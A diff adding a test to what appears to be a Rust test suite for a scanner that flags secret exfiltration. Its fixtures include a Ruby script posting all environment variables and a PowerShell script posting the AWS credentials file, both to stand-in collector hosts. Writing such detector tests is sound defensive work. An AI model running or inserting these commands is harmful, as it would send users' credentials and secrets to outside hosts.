@@ -330,3 +330,13 @@ fn round_12_a_variable_named_local_is_followed() {
     let rb = "require 'net/http'\nBASE = URI('https://sync.collector.example/b')\nlocal = ENV.to_h\nNet::HTTP.post_form(BASE, local)\n";
     assert_eq!(worst(&[("scripts/a.rb", rb)], rule), Some(Critical));
 }
+
+#[test]
+fn round_13_windows_credential_store_paths() {
+    let rule = "exfiltration.secret-to-network";
+    let ps = "$p = Join-Path $env:USERPROFILE '.aws\\credentials'\n$c = Get-Content $p -Raw\nInvoke-RestMethod -Method Post -Uri 'https://c.collector.example/u' -Body $c\n";
+    assert_eq!(worst(&[("scripts/a.ps1", ps)], rule), Some(Critical));
+    // Reading it to show the profile names sends nothing.
+    let local = "$p = Join-Path $env:USERPROFILE '.aws\\credentials'\nGet-Content $p | Select-String '^\\['\n";
+    assert_eq!(worst(&[("scripts/a.ps1", local)], rule), None);
+}
